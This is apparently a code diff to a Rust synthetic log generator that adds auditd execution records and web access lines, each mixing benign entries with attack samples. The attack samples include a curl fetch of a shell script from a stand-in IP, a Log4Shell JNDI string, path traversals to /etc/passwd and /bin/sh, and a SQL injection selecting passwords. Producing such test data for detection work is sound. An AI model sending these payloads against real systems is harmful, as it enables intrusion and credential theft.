@@ -43,6 +43,10 @@ pub enum Kind {
     Firewall,
     /// sshd, sudo, cron, nginx, systemd: about 90–250 bytes.
     Linux,
+    /// auditd's record of a started program, about 600 bytes.
+    Audit,
+    /// A web server's access line, about 200 bytes.
+    Web,
 }
 
 /// An endless stream of lines.
@@ -134,6 +138,8 @@ impl Generator {
             Kind::Windows => self.windows(attack, out),
             Kind::Firewall => self.firewall(attack, out),
             Kind::Linux => self.linux(attack, out),
+            Kind::Audit => self.audit(attack, out),
+            Kind::Web => self.web(attack, out),
         };
     }
 
@@ -269,6 +275,56 @@ impl Generator {
                 time.strftime("%b %d %Y %H:%M:%S")
             ),
         }
+    }
+
+    /// The records of one execution, a line each, all with the same serial.
+    fn audit(&mut self, attack: bool, out: &mut String) -> std::fmt::Result {
+        let plain: &[&[&str]] = &[
+            &["/usr/bin/ls", "-la", "/var/log"],
+            &["/usr/bin/systemctl", "status", "nginx"],
+            &["/usr/bin/python3", "/opt/backup/run.py", "--quiet"],
+            &["/usr/bin/grep", "-c", "error", "/var/log/syslog"],
+            &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
+        ];
+        let attacks: &[&[&str]] = &[
+            &["/usr/bin/base64", "-d", "/tmp/x"],
+            &["/usr/bin/curl", "-o", "/tmp/a.sh", "http://198.51.100.7/a.sh"],
+            &["/usr/bin/chattr", "-i", "/etc/passwd"],
+        ];
+        let list = if attack { attacks } else { plain };
+        let words = list[self.rng.below(list.len() as u64) as usize];
+        let program = words[0];
+        let name = program.rsplit('/').next().unwrap_or(program);
+        let (ppid, pid, uid) = (300 + self.rng.below(30_000), 300 + self.rng.below(60_000), 1000 + self.rng.below(20));
+        let stamp = format!("msg=audit({}.{:03}:{})", self.clock, self.made % 1000, self.made);
+        write!(
+            out,
+            r#"type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d1c0 a1=55d1e0 a2=55d200 a3=8 items=2 ppid={ppid} pid={pid} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses=12 comm="{name}" exe="{program}" subj=unconfined key="exec""#
+        )?;
+        write!(out, "\ntype=EXECVE {stamp}: argc={}", words.len())?;
+        for (i, word) in words.iter().enumerate() {
+            write!(out, " a{i}=\"{word}\"")?;
+        }
+        write!(out, "\ntype=CWD {stamp}: cwd=\"/root\"\ntype=EOE {stamp}: ")
+    }
+
+    fn web(&mut self, attack: bool, out: &mut String) -> std::fmt::Result {
+        let attacks = [
+            "/?x=${jndi:ldap://198.51.100.7/a}",
+            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
+            "/vanban/tim-kiem?q=1'+UNION+SELECT+password+FROM+users--",
+            "/static/../../../../etc/passwd",
+        ];
+        let (address, time) = (self.outside(), self.time());
+        let url = if attack { self.rng.pick(&attacks) } else { self.rng.pick(URLS) };
+        let status = if self.rng.below(15) == 0 { 404 } else { 200 };
+        write!(
+            out,
+            r#"{address} - - [{}] "GET {url} HTTP/1.1" {status} {} "-" "{}""#,
+            time.strftime("%d/%b/%Y:%H:%M:%S %z"),
+            200 + self.rng.below(60_000),
+            self.rng.pick(AGENTS)
+        )
     }
 
     fn linux(&mut self, attack: bool, out: &mut String) -> std::fmt::Result {
